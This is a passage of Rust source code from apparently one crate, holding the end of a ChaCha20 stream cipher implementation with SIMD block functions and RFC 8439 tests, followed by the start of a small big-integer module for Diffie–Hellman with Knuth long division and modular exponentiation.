        state[13..16].copy_from_slice(&self.nonce);
        let initial = state;
        for _ in 0..10 {
            // column rounds
            Self::quarter(&mut state, 0, 4, 8, 12);
            Self::quarter(&mut state, 1, 5, 9, 13);
            Self::quarter(&mut state, 2, 6, 10, 14);
            Self::quarter(&mut state, 3, 7, 11, 15);
            // diagonal rounds
            Self::quarter(&mut state, 0, 5, 10, 15);
            Self::quarter(&mut state, 1, 6, 11, 12);
            Self::quarter(&mut state, 2, 7, 8, 13);
            Self::quarter(&mut state, 3, 4, 9, 14);
        }
        let mut out = [0u8; 64];
        for (i, w) in state.iter().enumerate() {
            out[i * 4..i * 4 + 4].copy_from_slice(&w.wrapping_add(initial[i]).to_le_bytes());
        }
        out
    }

    /// SSE2 block function: the four state rows live in one 128-bit
    /// register each, so every quarter-round step runs on four lanes at
    /// once; the diagonal rounds are the column rounds after rotating
    /// rows 1-3 across lanes. The little-endian store order matches the
    /// scalar serialization exactly.
    #[cfg(target_arch = "x86_64")]
    fn block_sse2(&self, counter: u32) -> [u8; 64] {
        use std::arch::x86_64::*;
        macro_rules! rotl {
            ($v:expr, $n:literal) => {
                _mm_or_si128(_mm_slli_epi32($v, $n), _mm_srli_epi32($v, 32 - $n))
            };
        }
        macro_rules! round {
            ($a:ident, $b:ident, $c:ident, $d:ident) => {
                $a = _mm_add_epi32($a, $b);
                $d = _mm_xor_si128($d, $a);
                $d = rotl!($d, 16);
                $c = _mm_add_epi32($c, $d);
                $b = _mm_xor_si128($b, $c);
                $b = rotl!($b, 12);
                $a = _mm_add_epi32($a, $b);
                $d = _mm_xor_si128($d, $a);
                $d = rotl!($d, 8);
                $c = _mm_add_epi32($c, $d);
                $b = _mm_xor_si128($b, $c);
                $b = rotl!($b, 7);
            };
        }
        // SAFETY: SSE2 is part of the x86-64 baseline ABI; the stores
        // write exactly 64 bytes into a 64-byte array.
        unsafe {
            let a0 = _mm_setr_epi32(
                SIGMA[0] as i32,
                SIGMA[1] as i32,
                SIGMA[2] as i32,
                SIGMA[3] as i32,
            );
            let b0 = _mm_setr_epi32(
                self.key[0] as i32,
                self.key[1] as i32,
                self.key[2] as i32,
                self.key[3] as i32,
            );
            let c0 = _mm_setr_epi32(
                self.key[4] as i32,
                self.key[5] as i32,
                self.key[6] as i32,
                self.key[7] as i32,
            );
            let d0 = _mm_setr_epi32(
                counter as i32,
                self.nonce[0] as i32,
                self.nonce[1] as i32,
                self.nonce[2] as i32,
            );
            let (mut a, mut b, mut c, mut d) = (a0, b0, c0, d0);
            for _ in 0..10 {
                round!(a, b, c, d);
                // Diagonalize: rotate rows 1/2/3 left by 1/2/3 lanes.
                b = _mm_shuffle_epi32(b, 0b00_11_10_01);
                c = _mm_shuffle_epi32(c, 0b01_00_11_10);
                d = _mm_shuffle_epi32(d, 0b10_01_00_11);
                round!(a, b, c, d);
                // Undiagonalize.
                b = _mm_shuffle_epi32(b, 0b10_01_00_11);
                c = _mm_shuffle_epi32(c, 0b01_00_11_10);
                d = _mm_shuffle_epi32(d, 0b00_11_10_01);
            }
            a = _mm_add_epi32(a, a0);
            b = _mm_add_epi32(b, b0);
            c = _mm_add_epi32(c, c0);
            d = _mm_add_epi32(d, d0);
            let mut out = [0u8; 64];
            _mm_storeu_si128(out.as_mut_ptr() as *mut __m128i, a);
            _mm_storeu_si128(out.as_mut_ptr().add(16) as *mut __m128i, b);
            _mm_storeu_si128(out.as_mut_ptr().add(32) as *mut __m128i, c);
            _mm_storeu_si128(out.as_mut_ptr().add(48) as *mut __m128i, d);
            out
        }
    }

    fn refill(&mut self) {
        self.block = self.keystream_block();
        self.block_pos = 0;
    }

    /// XOR the keystream into `data` in place (encrypt == decrypt).
    ///
    /// Block-batched: any buffered partial-block tail is drained first,
    /// then whole 64-byte keystream blocks are XOR'd in as eight `u64`
    /// words each (a fully-consumed block is never written back to the
    /// resume buffer), and a final sub-block tail is served bytewise and
    /// left resumable at `block_pos`. Bit-identical to
    /// [`apply_keystream_bytewise`](Self::apply_keystream_bytewise) at
    /// every offset/length split.
    pub fn apply_keystream(&mut self, data: &mut [u8]) {
        let mut off = 0;
        // Drain the buffered partial block.
        if self.block_pos < 64 {
            let take = (64 - self.block_pos).min(data.len());
            for (b, k) in data[..take]
                .iter_mut()
                .zip(&self.block[self.block_pos..self.block_pos + take])
            {
                *b ^= k;
            }
            self.block_pos += take;
            off = take;
        }
        // Bulk: with AVX2, generate eight keystream blocks per batch
        // (vertical SIMD — one register holds the same state word of all
        // eight blocks). The batch always computes 8 blocks; short runs
        // consume a prefix and only advance the counter by what was used.
        #[cfg(target_arch = "x86_64")]
        if std::arch::is_x86_feature_detected!("avx2") {
            while data.len() - off >= 128 {
                let nb = ((data.len() - off) / 64).min(8);
                let mut ks = [0u8; 512];
                // SAFETY: AVX2 presence checked above.
                unsafe { self.blocks8_avx2(self.counter, &mut ks) };
                Self::xor_words(&mut data[off..off + nb * 64], &ks[..nb * 64]);
                self.counter = self.counter.wrapping_add(nb as u32);
                off += nb * 64;
            }
        }
        // Remaining whole blocks: XOR 64 bytes at a time via u64 words.
        while data.len() - off >= 64 {
            let ks = self.keystream_block();
            Self::xor_words(&mut data[off..off + 64], &ks);
            off += 64;
        }
        // Sub-block tail: buffer the block so a later call can resume.
        if off < data.len() {
            self.refill();
            let rest = &mut data[off..];
            for (b, k) in rest.iter_mut().zip(&self.block[..]) {
                *b ^= k;
            }
            self.block_pos = rest.len();
        }
    }

    /// XOR equal-length keystream into data, eight bytes per step. Both
    /// slices are whole multiples of eight bytes at every call site.
    fn xor_words(data: &mut [u8], ks: &[u8]) {
        debug_assert_eq!(data.len(), ks.len());
        debug_assert_eq!(data.len() % 8, 0);
        for (chunk, k) in data.chunks_exact_mut(8).zip(ks.chunks_exact(8)) {
            let d = u64::from_ne_bytes(chunk.try_into().unwrap());
            let k = u64::from_ne_bytes(k.try_into().unwrap());
            chunk.copy_from_slice(&(d ^ k).to_ne_bytes());
        }
    }

    /// AVX2 8-way block function: each of the sixteen state words lives
    /// in one 256-bit register holding that word for blocks
    /// `counter..counter+8` (the counter word is a lane-index ramp, with
    /// the same u32 wrap-around as the sequential path). After the
    /// rounds, two 8×8 u32 transposes put the keystream back in block
    /// order; byte order matches the scalar serialization exactly.
    #[cfg(target_arch = "x86_64")]
    #[target_feature(enable = "avx2")]
    unsafe fn blocks8_avx2(&self, counter: u32, out: &mut [u8; 512]) {
        use std::arch::x86_64::*;
        macro_rules! rotl {
            ($v:expr, $n:literal) => {
                _mm256_or_si256(_mm256_slli_epi32($v, $n), _mm256_srli_epi32($v, 32 - $n))
            };
        }
        // Byte-shuffle tables: rotate every 32-bit lane left by 16 / 8
        // bits in a single `vpshufb`.
        #[rustfmt::skip]
        let rot16 = _mm256_set_epi8(
            13, 12, 15, 14, 9, 8, 11, 10, 5, 4, 7, 6, 1, 0, 3, 2,
            13, 12, 15, 14, 9, 8, 11, 10, 5, 4, 7, 6, 1, 0, 3, 2,
        );
        #[rustfmt::skip]
        let rot8 = _mm256_set_epi8(
            14, 13, 12, 15, 10, 9, 8, 11, 6, 5, 4, 7, 2, 1, 0, 3,
            14, 13, 12, 15, 10, 9, 8, 11, 6, 5, 4, 7, 2, 1, 0, 3,
        );
        macro_rules! qr {
            ($a:ident, $b:ident, $c:ident, $d:ident) => {
                $a = _mm256_add_epi32($a, $b);
                $d = _mm256_xor_si256($d, $a);
                $d = _mm256_shuffle_epi8($d, rot16);
                $c = _mm256_add_epi32($c, $d);
                $b = _mm256_xor_si256($b, $c);
                $b = rotl!($b, 12);
                $a = _mm256_add_epi32($a, $b);
                $d = _mm256_xor_si256($d, $a);
                $d = _mm256_shuffle_epi8($d, rot8);
                $c = _mm256_add_epi32($c, $d);
                $b = _mm256_xor_si256($b, $c);
                $b = rotl!($b, 7);
            };
        }
        let i0 = _mm256_set1_epi32(SIGMA[0] as i32);
        let i1 = _mm256_set1_epi32(SIGMA[1] as i32);
        let i2 = _mm256_set1_epi32(SIGMA[2] as i32);
        let i3 = _mm256_set1_epi32(SIGMA[3] as i32);
        let i4 = _mm256_set1_epi32(self.key[0] as i32);
        let i5 = _mm256_set1_epi32(self.key[1] as i32);
        let i6 = _mm256_set1_epi32(self.key[2] as i32);
        let i7 = _mm256_set1_epi32(self.key[3] as i32);
        let i8 = _mm256_set1_epi32(self.key[4] as i32);
        let i9 = _mm256_set1_epi32(self.key[5] as i32);
        let i10 = _mm256_set1_epi32(self.key[6] as i32);
        let i11 = _mm256_set1_epi32(self.key[7] as i32);
        let i12 = _mm256_add_epi32(
            _mm256_set1_epi32(counter as i32),
            _mm256_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7),
        );
        let i13 = _mm256_set1_epi32(self.nonce[0] as i32);
        let i14 = _mm256_set1_epi32(self.nonce[1] as i32);
        let i15 = _mm256_set1_epi32(self.nonce[2] as i32);
        let (mut v0, mut v1, mut v2, mut v3) = (i0, i1, i2, i3);
        let (mut v4, mut v5, mut v6, mut v7) = (i4, i5, i6, i7);
        let (mut v8, mut v9, mut v10, mut v11) = (i8, i9, i10, i11);
        let (mut v12, mut v13, mut v14, mut v15) = (i12, i13, i14, i15);
        for _ in 0..10 {
            // column rounds
            qr!(v0, v4, v8, v12);
            qr!(v1, v5, v9, v13);
            qr!(v2, v6, v10, v14);
            qr!(v3, v7, v11, v15);
            // diagonal rounds
            qr!(v0, v5, v10, v15);
            qr!(v1, v6, v11, v12);
            qr!(v2, v7, v8, v13);
            qr!(v3, v4, v9, v14);
        }
        v0 = _mm256_add_epi32(v0, i0);
        v1 = _mm256_add_epi32(v1, i1);
        v2 = _mm256_add_epi32(v2, i2);
        v3 = _mm256_add_epi32(v3, i3);
        v4 = _mm256_add_epi32(v4, i4);
        v5 = _mm256_add_epi32(v5, i5);
        v6 = _mm256_add_epi32(v6, i6);
        v7 = _mm256_add_epi32(v7, i7);
        v8 = _mm256_add_epi32(v8, i8);
        v9 = _mm256_add_epi32(v9, i9);
        v10 = _mm256_add_epi32(v10, i10);
        v11 = _mm256_add_epi32(v11, i11);
        v12 = _mm256_add_epi32(v12, i12);
        v13 = _mm256_add_epi32(v13, i13);
        v14 = _mm256_add_epi32(v14, i14);
        v15 = _mm256_add_epi32(v15, i15);
        // Transpose words 0-7 and 8-15 across the eight blocks, then lay
        // each block's two 32-byte halves out contiguously.
        let lo = Self::transpose8_avx2([v0, v1, v2, v3, v4, v5, v6, v7]);
        let hi = Self::transpose8_avx2([v8, v9, v10, v11, v12, v13, v14, v15]);
        for j in 0..8 {
            _mm256_storeu_si256(out.as_mut_ptr().add(j * 64) as *mut __m256i, lo[j]);
            _mm256_storeu_si256(out.as_mut_ptr().add(j * 64 + 32) as *mut __m256i, hi[j]);
        }
    }

    /// 8×8 u32 matrix transpose on AVX2 registers (unpack within 128-bit
    /// lanes, then recombine the lane halves).
    #[cfg(target_arch = "x86_64")]
    #[target_feature(enable = "avx2")]
    unsafe fn transpose8_avx2(
        r: [std::arch::x86_64::__m256i; 8],
    ) -> [std::arch::x86_64::__m256i; 8] {
        use std::arch::x86_64::*;
        let t0 = _mm256_unpacklo_epi32(r[0], r[1]);
        let t1 = _mm256_unpackhi_epi32(r[0], r[1]);
        let t2 = _mm256_unpacklo_epi32(r[2], r[3]);
        let t3 = _mm256_unpackhi_epi32(r[2], r[3]);
        let t4 = _mm256_unpacklo_epi32(r[4], r[5]);
        let t5 = _mm256_unpackhi_epi32(r[4], r[5]);
        let t6 = _mm256_unpacklo_epi32(r[6], r[7]);
        let t7 = _mm256_unpackhi_epi32(r[6], r[7]);
        let u0 = _mm256_unpacklo_epi64(t0, t2);
        let u1 = _mm256_unpackhi_epi64(t0, t2);
        let u2 = _mm256_unpacklo_epi64(t1, t3);
        let u3 = _mm256_unpackhi_epi64(t1, t3);
        let u4 = _mm256_unpacklo_epi64(t4, t6);
        let u5 = _mm256_unpackhi_epi64(t4, t6);
        let u6 = _mm256_unpacklo_epi64(t5, t7);
        let u7 = _mm256_unpackhi_epi64(t5, t7);
        [
            _mm256_permute2x128_si256(u0, u4, 0x20),
            _mm256_permute2x128_si256(u1, u5, 0x20),
            _mm256_permute2x128_si256(u2, u6, 0x20),
            _mm256_permute2x128_si256(u3, u7, 0x20),
            _mm256_permute2x128_si256(u0, u4, 0x31),
            _mm256_permute2x128_si256(u1, u5, 0x31),
            _mm256_permute2x128_si256(u2, u6, 0x31),
            _mm256_permute2x128_si256(u3, u7, 0x31),
        ]
    }

    /// Reference byte-at-a-time path (the pre-batching implementation),
    /// kept so equivalence proptests can pin the batched path to it.
    pub fn apply_keystream_bytewise(&mut self, data: &mut [u8]) {
        for b in data {
            if self.block_pos == 64 {
                self.refill();
            }
            *b ^= self.block[self.block_pos];
            self.block_pos += 1;
        }
    }

    /// One-shot convenience.
    pub fn process(key: &[u8; 32], nonce: &[u8; 12], counter: u32, data: &[u8]) -> Vec<u8> {
        let mut out = data.to_vec();
        ChaCha20::new(key, nonce, counter).apply_keystream(&mut out);
        out
    }
}

impl std::fmt::Debug for ChaCha20 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "ChaCha20 {{ counter: {} }}", self.counter)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    // RFC 8439 §2.4.2 test vector.
    #[test]
    fn rfc8439_encrypt_vector() {
        let key: [u8; 32] = core::array::from_fn(|i| i as u8);
        let nonce: [u8; 12] = [0, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0, 0, 0];
        let plaintext = b"Ladies and Gentlemen of the class of '99: If I could offer you only one tip for the future, sunscreen would be it.";
        let ct = ChaCha20::process(&key, &nonce, 1, plaintext);
        assert_eq!(
            hex(&ct[..32]),
            "6e2e359a2568f98041ba0728dd0d6981e97e7aec1d4360c20a27afccfd9fae0b"
        );
        // Decrypting must restore the plaintext.
        let pt = ChaCha20::process(&key, &nonce, 1, &ct);
        assert_eq!(&pt[..], &plaintext[..]);
    }

    // RFC 8439 §2.3.2 keystream block check via zero plaintext.
    #[test]
    fn rfc8439_block_function() {
        let key: [u8; 32] = core::array::from_fn(|i| i as u8);
        let nonce: [u8; 12] = [0, 0, 0, 9, 0, 0, 0, 0x4a, 0, 0, 0, 0];
        let zeros = [0u8; 64];
        let ks = ChaCha20::process(&key, &nonce, 1, &zeros);
        assert_eq!(hex(&ks[..16]), "10f1e7e4d13b5915500fdd1fa32071c4");
    }

    #[test]
    fn roundtrip_and_counter_seek() {
        let key = [7u8; 32];
        let nonce = [9u8; 12];
        let msg: Vec<u8> = (0..300).map(|i| (i % 256) as u8).collect();
        let ct = ChaCha20::process(&key, &nonce, 0, &msg);
        assert_ne!(ct, msg);
        let pt = ChaCha20::process(&key, &nonce, 0, &ct);
        assert_eq!(pt, msg);
        // Different counter = different keystream.
        let ct2 = ChaCha20::process(&key, &nonce, 5, &msg);
        assert_ne!(ct, ct2);
    }

    #[test]
    fn incremental_matches_oneshot() {
        let key = [1u8; 32];
        let nonce = [2u8; 12];
        let msg = vec![0xABu8; 200];
        let whole = ChaCha20::process(&key, &nonce, 0, &msg);
        let mut c = ChaCha20::new(&key, &nonce, 0);
        let mut parts = msg.clone();
        let (a, b) = parts.split_at_mut(77);
        c.apply_keystream(a);
        c.apply_keystream(b);
        assert_eq!(parts, whole);
    }

    /// Replay the RFC 8439 §2.4.2 vector split into two calls at every
    /// split point 1..=130 — covering splits inside the partial-block
    /// drain, exactly on block boundaries (64, 128), mid-block, and
    /// beyond the message length — and require the exact one-shot bytes.
    #[test]
    fn rfc8439_vector_at_every_split_point() {
        let key: [u8; 32] = core::array::from_fn(|i| i as u8);
        let nonce: [u8; 12] = [0, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0, 0, 0];
        let plaintext: &[u8] = b"Ladies and Gentlemen of the class of '99: If I could offer you only one tip for the future, sunscreen would be it.";
        let whole = ChaCha20::process(&key, &nonce, 1, plaintext);
        for split in 1..=130usize {
            let mut buf = plaintext.to_vec();
            let mut c = ChaCha20::new(&key, &nonce, 1);
            let at = split.min(buf.len());
            let (a, b) = buf.split_at_mut(at);
            c.apply_keystream(a);
            c.apply_keystream(b);
            assert_eq!(buf, whole, "split at {split}");
        }
    }

    /// The batched path must be bit-identical to the byte-at-a-time
    /// reference at every offset/length split, including the resume
    /// buffer state (checked by continuing both ciphers afterwards).
    #[test]
    fn batched_matches_bytewise_at_every_split() {
        let key = [0x5Au8; 32];
        let nonce = [0xC3u8; 12];
        let msg: Vec<u8> = (0..200).map(|i| (i * 7 % 256) as u8).collect();
        for split in 0..=msg.len() {
            let mut fast = msg.clone();
            let mut slow = msg.clone();
            let mut cf = ChaCha20::new(&key, &nonce, 0);
            let mut cs = ChaCha20::new(&key, &nonce, 0);
            let (fa, fb) = fast.split_at_mut(split);
            cf.apply_keystream(fa);
            cf.apply_keystream(fb);
            let (sa, sb) = slow.split_at_mut(split);
            cs.apply_keystream_bytewise(sa);
            cs.apply_keystream_bytewise(sb);
            assert_eq!(fast, slow, "split at {split}");
            // Both ciphers must resume identically from here.
            let mut tf = [0u8; 7];
            let mut ts = [0u8; 7];
            cf.apply_keystream(&mut tf);
            cs.apply_keystream_bytewise(&mut ts);
            assert_eq!(tf, ts, "resume after split at {split}");
        }
    }

    #[test]
    fn nonce_separation() {
        let key = [3u8; 32];
        let m = [0u8; 64];
        let a = ChaCha20::process(&key, &[0u8; 12], 0, &m);
        let b = ChaCha20::process(&key, &[1u8; 12], 0, &m);
        assert_ne!(a, b);
    }

    /// The 8-way batch must wrap its per-lane counter ramp exactly like
    /// the sequential path does at u32::MAX.
    #[test]
    fn batched_counter_wraparound() {
        let key = [0x11u8; 32];
        let nonce = [0x22u8; 12];
        let mut fast = [0u8; 512];
        let mut slow = [0u8; 512];
        ChaCha20::new(&key, &nonce, 0xffff_fffd).apply_keystream(&mut fast);
        ChaCha20::new(&key, &nonce, 0xffff_fffd).apply_keystream_bytewise(&mut slow);
        assert_eq!(fast, slow);
    }

    /// The SIMD block function must be bit-identical to the portable one
    /// for arbitrary key/nonce material, including the counter wrapping
    /// at u32::MAX. (On non-x86-64 targets both sides are the scalar
    /// function; the RFC 8439 vectors above pin the active path to the
    /// spec either way.)
    #[test]
    fn simd_block_matches_scalar_block() {
        let mut key = [0u8; 32];
        let mut nonce = [0u8; 12];
        for seed in 0u32..64 {
            for (i, b) in key.iter_mut().enumerate() {
                *b = (seed.wrapping_mul(2654435761).wrapping_add(i as u32) >> 16) as u8;
            }
            for (i, b) in nonce.iter_mut().enumerate() {
                *b = (seed.wrapping_mul(40503).wrapping_add(i as u32 * 13) >> 8) as u8;
            }
            let c = ChaCha20::new(&key, &nonce, 0);
            for counter in [0, 1, 2, seed, 0x7fff_ffff, 0xffff_fffe, 0xffff_ffff] {
                assert_eq!(
                    c.block_at(counter),
                    c.block_scalar(counter),
                    "seed {seed} counter {counter}"
                );
            }
        }
    }
}
