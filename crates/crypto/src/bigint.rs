//! Minimal variable-length unsigned big integer for Diffie–Hellman.
//!
//! Supports exactly what [`crate::dh`] needs: comparison, multiplication,
//! division with remainder (Knuth Algorithm D over base-2³² digits) and
//! modular exponentiation. Handshakes happen a handful of times per
//! simulated world, so clarity wins over Montgomery tricks — but division
//! is real long division, not bit-at-a-time, so a 1024-bit `pow_mod` stays
//! in the low milliseconds even in debug builds.
//!
//! Values are little-endian vectors of u32 digits with no trailing zeros
//! (canonical form).

/// Arbitrary-size unsigned integer, little-endian base-2³² digits.
#[derive(Clone, PartialEq, Eq)]
pub struct BigUint {
    digits: Vec<u32>, // canonical: no trailing zero digits
}

impl BigUint {
    /// Zero.
    pub fn zero() -> BigUint {
        BigUint { digits: Vec::new() }
    }

    /// One.
    pub fn one() -> BigUint {
        BigUint::from_u64(1)
    }

    /// From a machine word.
    pub fn from_u64(v: u64) -> BigUint {
        let mut n = BigUint {
            digits: vec![v as u32, (v >> 32) as u32],
        };
        n.normalize();
        n
    }

    /// Parse big-endian bytes (as conventionally printed in RFCs).
    pub fn from_be_bytes(bytes: &[u8]) -> BigUint {
        let mut digits = vec![0u32; bytes.len().div_ceil(4)];
        for (i, &b) in bytes.iter().rev().enumerate() {
            digits[i / 4] |= (b as u32) << ((i % 4) * 8);
        }
        let mut n = BigUint { digits };
        n.normalize();
        n
    }

    /// Serialize to exactly `len` big-endian bytes (left-padded with
    /// zeros). Panics if the value does not fit.
    pub fn to_be_bytes(&self, len: usize) -> Vec<u8> {
        assert!(
            self.bit_len().div_ceil(8) <= len,
            "value does not fit in {len} bytes"
        );
        let mut out = vec![0u8; len];
        for i in 0..len {
            let digit = i / 4;
            if digit >= self.digits.len() {
                break;
            }
            out[len - 1 - i] = ((self.digits[digit] >> ((i % 4) * 8)) & 0xFF) as u8;
        }
        out
    }

    fn normalize(&mut self) {
        while self.digits.last() == Some(&0) {
            self.digits.pop();
        }
    }

    /// True iff zero.
    pub fn is_zero(&self) -> bool {
        self.digits.is_empty()
    }

    /// Index of highest set bit plus one (0 for zero).
    pub fn bit_len(&self) -> usize {
        match self.digits.last() {
            None => 0,
            Some(&top) => (self.digits.len() - 1) * 32 + (32 - top.leading_zeros() as usize),
        }
    }

    /// Test bit `i`.
    pub fn bit(&self, i: usize) -> bool {
        let d = i / 32;
        d < self.digits.len() && (self.digits[d] >> (i % 32)) & 1 == 1
    }

    /// Schoolbook product.
    pub fn mul(&self, other: &BigUint) -> BigUint {
        if self.is_zero() || other.is_zero() {
            return BigUint::zero();
        }
        let mut prod = vec![0u32; self.digits.len() + other.digits.len()];
        for (i, &a) in self.digits.iter().enumerate() {
            if a == 0 {
                continue;
            }
            let mut carry: u64 = 0;
            for (j, &b) in other.digits.iter().enumerate() {
                let cur = prod[i + j] as u64 + a as u64 * b as u64 + carry;
                prod[i + j] = cur as u32;
                carry = cur >> 32;
            }
            prod[i + other.digits.len()] = carry as u32;
        }
        let mut n = BigUint { digits: prod };
        n.normalize();
        n
    }

    /// Quotient and remainder. Panics on division by zero.
    pub fn div_rem(&self, divisor: &BigUint) -> (BigUint, BigUint) {
        assert!(!divisor.is_zero(), "division by zero");
        if self < divisor {
            return (BigUint::zero(), self.clone());
        }
        if divisor.digits.len() == 1 {
            let d = divisor.digits[0] as u64;
            let mut q = vec![0u32; self.digits.len()];
            let mut rem: u64 = 0;
            for i in (0..self.digits.len()).rev() {
                let cur = (rem << 32) | self.digits[i] as u64;
                q[i] = (cur / d) as u32;
                rem = cur % d;
            }
            let mut qn = BigUint { digits: q };
            qn.normalize();
            return (qn, BigUint::from_u64(rem));
        }
        self.div_rem_knuth(divisor)
    }

    /// Knuth TAOCP vol. 2, Algorithm D (multi-digit division).
    fn div_rem_knuth(&self, v: &BigUint) -> (BigUint, BigUint) {
        let n = v.digits.len();
        let m = self.digits.len() - n;
        // D1: normalize so the top divisor digit has its high bit set.
        let shift = v.digits[n - 1].leading_zeros();
        let mut vn = shl_bits(&v.digits, shift);
        vn.truncate(n); // shifting cannot overflow the top digit
        let mut un = shl_bits(&self.digits, shift);
        un.resize(self.digits.len() + 1, 0);

        let mut q = vec![0u32; m + 1];
        // D2..D7: main loop.
        for j in (0..=m).rev() {
            // D3: estimate quotient digit.
            let top = ((un[j + n] as u64) << 32) | un[j + n - 1] as u64;
            let mut qhat = top / vn[n - 1] as u64;
            let mut rhat = top % vn[n - 1] as u64;
            while qhat >= 1u64 << 32
                || qhat * vn[n - 2] as u64 > ((rhat << 32) | un[j + n - 2] as u64)
            {
                qhat -= 1;
                rhat += vn[n - 1] as u64;
                if rhat >= 1u64 << 32 {
                    break;
                }
            }
            // D4: multiply and subtract.
            let mut borrow: i64 = 0;
            let mut carry: u64 = 0;
            for i in 0..n {
                let p = qhat * vn[i] as u64 + carry;
                carry = p >> 32;
                let t = un[j + i] as i64 - borrow - (p as u32) as i64;
                un[j + i] = t as u32;
                borrow = if t < 0 { 1 } else { 0 };
            }
            let t = un[j + n] as i64 - borrow - carry as i64;
            un[j + n] = t as u32;
            // D5/D6: if we subtracted too much, add back.
            if t < 0 {
                qhat -= 1;
                let mut carry: u64 = 0;
                for i in 0..n {
                    let s = un[j + i] as u64 + vn[i] as u64 + carry;
                    un[j + i] = s as u32;
                    carry = s >> 32;
                }
                un[j + n] = (un[j + n] as u64).wrapping_add(carry) as u32;
            }
            q[j] = qhat as u32;
        }
        // D8: denormalize remainder.
        let mut rem_digits = shr_bits(&un[..n], shift);
        rem_digits.truncate(n);
        let mut qn = BigUint { digits: q };
        qn.normalize();
        let mut rn = BigUint { digits: rem_digits };
        rn.normalize();
        (qn, rn)
    }

    /// `self mod m`.
    pub fn mod_reduce(&self, m: &BigUint) -> BigUint {
        self.div_rem(m).1
    }

    /// `(self * other) mod m`. Inputs need not be pre-reduced.
    pub fn mul_mod(&self, other: &BigUint, m: &BigUint) -> BigUint {
        self.mul(other).mod_reduce(m)
    }

    /// Modular exponentiation `self^exp mod m` (left-to-right binary).
    pub fn pow_mod(&self, exp: &BigUint, m: &BigUint) -> BigUint {
        assert!(!m.is_zero(), "modulus must be nonzero");
        let base = self.mod_reduce(m);
        let mut result = BigUint::one();
        result = result.mod_reduce(m); // handles m == 1
        for i in (0..exp.bit_len()).rev() {
            result = result.mul_mod(&result, m);
            if exp.bit(i) {
                result = result.mul_mod(&base, m);
            }
        }
        result
    }
}

/// Shift a digit slice left by `shift` bits (0..32), growing by one digit.
fn shl_bits(digits: &[u32], shift: u32) -> Vec<u32> {
    let mut out = vec![0u32; digits.len() + 1];
    if shift == 0 {
        out[..digits.len()].copy_from_slice(digits);
        return out;
    }
    for (i, &d) in digits.iter().enumerate() {
        out[i] |= d << shift;
        out[i + 1] = d >> (32 - shift);
    }
    out
}

/// Shift a digit slice right by `shift` bits (0..32).
fn shr_bits(digits: &[u32], shift: u32) -> Vec<u32> {
    if shift == 0 {
        return digits.to_vec();
    }
    let mut out = vec![0u32; digits.len()];
    for i in 0..digits.len() {
        out[i] = digits[i] >> shift;
        if i + 1 < digits.len() {
            out[i] |= digits[i + 1] << (32 - shift);
        }
    }
    out
}

impl PartialOrd for BigUint {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for BigUint {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.digits
            .len()
            .cmp(&other.digits.len())
            .then_with(|| self.digits.iter().rev().cmp(other.digits.iter().rev()))
    }
}

impl std::fmt::Debug for BigUint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        if self.is_zero() {
            return write!(f, "0x0");
        }
        write!(f, "0x")?;
        for (i, d) in self.digits.iter().rev().enumerate() {
            if i == 0 {
                write!(f, "{d:x}")?;
            } else {
                write!(f, "{d:08x}")?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_round_trip() {
        let v = BigUint::from_be_bytes(&[0x12, 0x34, 0x56, 0x78, 0x9a]);
        assert_eq!(v.to_be_bytes(5), vec![0x12, 0x34, 0x56, 0x78, 0x9a]);
        assert_eq!(v.to_be_bytes(7), vec![0, 0, 0x12, 0x34, 0x56, 0x78, 0x9a]);
        assert_eq!(v.bit_len(), 37);
    }

    #[test]
    fn normalization_strips_leading_zeros() {
        let v = BigUint::from_be_bytes(&[0, 0, 0, 1]);
        assert_eq!(v, BigUint::one());
        assert_eq!(BigUint::from_be_bytes(&[0, 0]), BigUint::zero());
    }

    #[test]
    fn small_mul_and_div() {
        let a = BigUint::from_u64(0xFFFF_FFFF_FFFF_FFFF);
        let b = BigUint::from_u64(0xFFFF_FFFF_FFFF_FFFF);
        let p = a.mul(&b);
        // (2^64-1)^2 = 2^128 - 2^65 + 1
        assert_eq!(p.bit_len(), 128);
        let (q, r) = p.div_rem(&a);
        assert_eq!(q, a);
        assert_eq!(r, BigUint::zero());
    }

    #[test]
    fn div_rem_invariant_random() {
        // Deterministic pseudo-random cross-check of a = q*b + r, r < b.
        let mut x: u64 = 0x1234_5678_9abc_def0;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for _ in 0..200 {
            let mut abytes = vec![0u8; (next() % 40 + 1) as usize];
            for b in &mut abytes {
                *b = next() as u8;
            }
            let mut bbytes = vec![0u8; (next() % 20 + 1) as usize];
            for b in &mut bbytes {
                *b = next() as u8;
            }
            let a = BigUint::from_be_bytes(&abytes);
            let b = BigUint::from_be_bytes(&bbytes);
            if b.is_zero() {
                continue;
            }
            let (q, r) = a.div_rem(&b);
            assert!(r < b, "remainder not reduced");
            let back = q.mul(&b);
            // back + r == a  (verify via byte serialization after add)
            let sum = add(&back, &r);
            assert_eq!(sum, a, "a != q*b + r");
        }
    }

    fn add(a: &BigUint, b: &BigUint) -> BigUint {
        let n = a.digits.len().max(b.digits.len()) + 1;
        let mut out = vec![0u32; n];
        let mut carry = 0u64;
        for (i, slot) in out.iter_mut().enumerate() {
            let da = *a.digits.get(i).unwrap_or(&0) as u64;
            let db = *b.digits.get(i).unwrap_or(&0) as u64;
            let s = da + db + carry;
            *slot = s as u32;
            carry = s >> 32;
        }
        let mut r = BigUint { digits: out };
        r.normalize();
        r
    }

    #[test]
    fn small_pow_mod_matches_u128() {
        let m = 4_294_967_291u64; // largest 32-bit prime
        let cases = [(2u64, 10u64), (3, 1000), (12345, 67891), (m - 1, 2)];
        for (b, e) in cases {
            let mut want = 1u128;
            let mut base = b as u128 % m as u128;
            let mut exp = e;
            while exp > 0 {
                if exp & 1 == 1 {
                    want = want * base % m as u128;
                }
                base = base * base % m as u128;
                exp >>= 1;
            }
